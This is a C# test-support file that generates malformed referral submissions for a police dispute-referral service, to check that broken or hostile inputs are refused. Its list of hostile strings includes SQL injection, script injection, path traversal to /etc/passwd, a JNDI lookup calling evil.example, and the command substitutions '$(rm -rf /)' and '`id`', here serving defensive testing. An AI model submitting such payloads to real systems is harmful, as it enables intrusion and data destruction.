using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Referral.Core.Privacy;
using Referral.Testing;

namespace Referral.Reliability.Tests.Support;

/// <summary>One generated bad referral: what was spoilt, and the exact bytes sent.</summary>
public sealed record Malformed(string Kind, string What, byte[] Body);

/// <summary>
/// Generates malformed referrals, each a valid one spoilt in one way: broken JSON, wrong types, missing
/// and oversized fields, invalid phone and ID numbers, unknown codes, hostile strings. None of them can
/// be a valid referral, so none may be stored.
/// </summary>
public static class MalformedReferrals
{
    private static readonly JsonSerializerOptions Json = new(JsonSerializerDefaults.Web);

    private static readonly string[] Hostile =
    [
        "'; DROP TABLE Cases; --", "\" OR 1=1 --", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "../../../etc/passwd",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "%00%0d%0a", "A\u0000B", "\u202Egnatug", "\u200B\u200B\u200B", "🚓🚓🚓", "\r\nX-Injected: yes",
        "gutang;--", "gu tang", "null", "undefined", "NaN", "-1", string.Concat(Enumerable.Repeat("𠀀", 30)), "<gutang>", "\\u0000", "$(rm -rf /)", "`id`",
    ];

    private static readonly string[] BadPhones =
        ["12345", "1381234567", "138123456789", "23812345678", "abcdefghijk", "057463012345", "1381234567a", "00000000000", "10000000000", "+1 555 0100"];

    /// <param name="comments">
    /// Whether a JSON comment counts as broken: the HTTP door refuses it, while MassTransit's reader on the bus
    /// skips comments (and the referral around it is valid), so for the bus a bare <c>NaN</c> takes its place.
    /// </param>
    public static IReadOnlyList<Malformed> Generate(int count, int seed, string prefix, bool comments = true)
    {
        var random = new Random(seed);
        var kinds = new Func<Random, JsonObject, string, (string, string, byte[])>[]
        {
            (r, v, n) => BrokenJson(r, v, comments), WrongType, Missing, Oversized, BadPhone, BadIdNumber, UnknownCode, HostileString,
        };
        var list = new List<Malformed>(count);
        for (var i = 0; i < count; i++)
        {
            var number = $"{prefix}-{i:D6}";
            var valid = (JsonObject)JsonSerializer.SerializeToNode(Referrals.Valid(number, address: Referrals.UniqueAddress()), Json)!;
            var (kind, what, body) = kinds[i % kinds.Length](random, valid, number);
            list.Add(new Malformed(kind, what, body));
        }
        return list;
    }

    private static byte[] Bytes(JsonNode node) => Encoding.UTF8.GetBytes(node.ToJsonString(Json));

    private static (string, string, byte[]) BrokenJson(Random random, JsonObject valid, bool comments)
    {
        var text = valid.ToJsonString(Json);
        switch (random.Next(8))
        {
            case 0:
                var cut = random.Next(1, text.Length - 1);
                return ("broken-json", $"cut at {cut}", Encoding.UTF8.GetBytes(text[..cut]));
            case 1:
                // Between tokens: anywhere else it may land in an optional property's name, which then is merely unknown and ignored.
                var bytes = Encoding.UTF8.GetBytes(text).ToList();
                bytes.Insert(1, 0xFF);
                return ("broken-json", "invalid UTF-8 byte", bytes.ToArray());
            case 2:
                return ("broken-json", "trailing garbage", Encoding.UTF8.GetBytes(text + "}}garbage"));
            case 3:
                return ("broken-json", "single quotes", Encoding.UTF8.GetBytes(text.Replace('"', '\'')));
            case 4:
                return ("broken-json", "unquoted keys", Encoding.UTF8.GetBytes(text.Replace("\"incidentNumber\"", "incidentNumber", StringComparison.Ordinal)));
            case 5:
                var top = new[] { "", "null", "[]", "42", "\"referral\"", "true", "{", "}", "[{}", "{\"a\":}" }[random.Next(10)];
                return ("broken-json", $"body '{top}'", Encoding.UTF8.GetBytes(top));
            case 6:
                return comments
                    ? ("broken-json", "comment", Encoding.UTF8.GetBytes(text.Insert(1, "/* note */")))
                    : ("broken-json", "NaN literal", Encoding.UTF8.GetBytes(text.Insert(1, "\"note\":NaN,")));
            default:
                var at = text.IndexOf(':', StringComparison.Ordinal);
                return ("broken-json", "missing colon", Encoding.UTF8.GetBytes(text.Remove(at, 1)));
        }
    }

    private static (string, string, byte[]) WrongType(Random random, JsonObject valid, string number)
    {
        var choices = new (string Path, JsonNode Value)[]
        {
            ("incidentNumber", 12345), ("incidentNumber", new JsonArray("a")), ("stationCode", new JsonObject { ["code"] = "gutang" }),
            ("occurredAt", "昨天晚上"), ("occurredAt", 1700000000), ("address", true), ("disputeType", new JsonArray()), ("summary", 3.14),
            ("policeAction", new JsonObject()), ("parties", "王小明"), ("parties", new JsonObject { ["name"] = "王小明" }), ("risk", "high"),
            ("risk", new JsonArray(1, 2)), ("risk.partiesCount", "很多"), ("risk.policeCallsLast30Days", "三次"), ("risk.policeCallsLast30Days", 2.5),
            ("risk.amountAtStakeYuan", "五万"), ("risk.threatsOrWeapons", "yes"), ("risk.violence", 1), ("risk.partiesCount", 1e20),
            ("parties[0]", "王小明"), ("parties[0].phone", 13812345678), ("parties[0].name", new JsonArray("王")), ("parties[0].gender", false),
        };
        var (path, value) = choices[random.Next(choices.Length)];
        Set(valid, path, value.DeepClone());
        return ("wrong-type", $"{path} = {value.ToJsonString()}", Bytes(valid));
    }

    private static (string, string, byte[]) Missing(Random random, JsonObject valid, string number)
    {
        var paths = new[] { "incidentNumber", "occurredAt", "address", "disputeType", "summary", "policeAction", "parties", "parties[0].name" };
        var path = paths[random.Next(paths.Length)];
        if (random.Next(2) == 0) Remove(valid, path);
        else Set(valid, path, random.Next(2) == 0 ? null : JsonValue.Create("   "));
        return ("missing", path, Bytes(valid));
    }

    private static (string, string, byte[]) Oversized(Random random, JsonObject valid, string number)
    {
        switch (random.Next(8))
        {
            case 0: Set(valid, "incidentNumber", number + new string('9', 41)); return ("oversized", "incidentNumber", Bytes(valid));
            case 1: Set(valid, "address", new string('路', 201 + random.Next(500))); return ("oversized", "address", Bytes(valid));
            case 2: Set(valid, "summary", new string('吵', 4001 + random.Next(3000))); return ("oversized", "summary", Bytes(valid));
            case 3: Set(valid, "officerName", new string('潘', 51)); return ("oversized", "officerName", Bytes(valid));
            case 4:
                var party = valid["parties"]![0]!;
                valid["parties"] = new JsonArray(Enumerable.Range(0, 51).Select(_ => party.DeepClone()).ToArray());
                return ("oversized", "51 parties", Bytes(valid));
            case 5: Set(valid, "parties[0].role", new string('方', 21)); return ("oversized", "parties[0].role", Bytes(valid));
            case 6: Set(valid, "risk.partiesCount", 100_001); return ("oversized", "risk.partiesCount", Bytes(valid));
            default:
                // Past the 256 KB body limit.
                Set(valid, "summary", new string('吵', 100_000 + random.Next(50_000)));
                return ("oversized", "body over 256 KB", Bytes(valid));
        }
    }

    private static (string, string, byte[]) BadPhone(Random random, JsonObject valid, string number)
    {
        var phone = BadPhones[random.Next(BadPhones.Length)];
        Set(valid, $"parties[{random.Next(2)}].phone", phone);
        return ("bad-phone", phone, Bytes(valid));
    }

    private static (string, string, byte[]) BadIdNumber(Random random, JsonObject valid, string number)
    {
        var id = Referrals.IdNumber();
        var check = IdCardNumber.CheckCharacterOf(id[..17]);
        var bad = random.Next(6) switch
        {
            0 => id[..17] + (check == '0' ? '1' : '0'),
            1 => id[..17],
            2 => id + "1",
            3 => Fixed(id[..6] + "20230230" + id[14..17]),
            4 => id[..10] + "AB" + id[12..],
            _ => Fixed(id[..6] + "18991231" + id[14..17]),
        };
        Set(valid, "parties[0].idNumber", bad);
        return ("bad-id-number", bad, Bytes(valid));

        static string Fixed(string first17) => first17 + IdCardNumber.CheckCharacterOf(first17);
    }

    private static (string, string, byte[]) UnknownCode(Random random, JsonObject valid, string number)
    {
        var (path, value) = random.Next(4) switch
        {
            0 => ("stationCode", $"station-{random.Next(1000)}"),
            1 => ("disputeType", new[] { "打麻将", "打架斗殴", "外星人入侵", "others" }[random.Next(4)]),
            2 => ("areaCode", $"atlantis-{random.Next(100)}"),
            _ => ("parties[0].gender", new[] { "X", "男女", "火星人", "2" }[random.Next(4)]),
        };
        Set(valid, path, value);
        return ("unknown-code", $"{path} = {value}", Bytes(valid));
    }

    private static (string, string, byte[]) HostileString(Random random, JsonObject valid, string number)
    {
        var path = new[] { "incidentNumber", "stationCode", "disputeType", "areaCode", "parties[0].phone", "parties[0].idNumber", "parties[0].gender" }
            [random.Next(7)];
        // Appended to an incident number, a hostile string must bring a character incident numbers may not hold ("-1" would not).
        var choices = path == "incidentNumber"
            ? Hostile.Where(h => h.Trim().Any(c => !(char.IsAsciiLetterOrDigit(c) || c is '-' or '_' or '/'))).ToArray()
            : Hostile;
        var hostile = choices[random.Next(choices.Length)];
        Set(valid, path, path == "incidentNumber" ? number + hostile : hostile);
        if (random.Next(3) == 0) Set(valid, "summary", "双方争吵\u0007" + hostile); // control characters are refused in free text
        return ("hostile-string", path, Bytes(valid));
    }

    private static void Set(JsonObject root, string path, JsonNode? value)
    {
        var (parent, key, index) = Resolve(root, path);
        if (index is { } i) ((JsonArray)parent)[i] = value;
        else ((JsonObject)parent)[key] = value;
    }

    private static void Set(JsonObject root, string path, string value) => Set(root, path, JsonValue.Create(value));

    private static void Set(JsonObject root, string path, int value) => Set(root, path, JsonValue.Create(value));

    private static void Remove(JsonObject root, string path)
    {
        var (parent, key, _) = Resolve(root, path);
        ((JsonObject)parent).Remove(key);
    }

    /// <summary>"a.b", "parties[0].phone" or "parties[0]": the node holding the last step, and that step.</summary>
    private static (JsonNode Parent, string Key, int? Index) Resolve(JsonObject root, string path)
    {
        JsonNode node = root;
        var steps = path.Split('.');
        for (var s = 0; s < steps.Length; s++)
        {
            var step = steps[s];
            var bracket = step.IndexOf('[', StringComparison.Ordinal);
            var name = bracket < 0 ? step : step[..bracket];
            int? index = bracket < 0 ? null : int.Parse(step[(bracket + 1)..^1], CultureInfo.InvariantCulture);
            var last = s == steps.Length - 1;
            if (last && index is null) return (node, name, null);
            var child = node[name]!;
            if (last) return (child, name, index);
            node = index is { } i ? child[i]! : child;
        }
        throw new ArgumentException(path);
    }
}
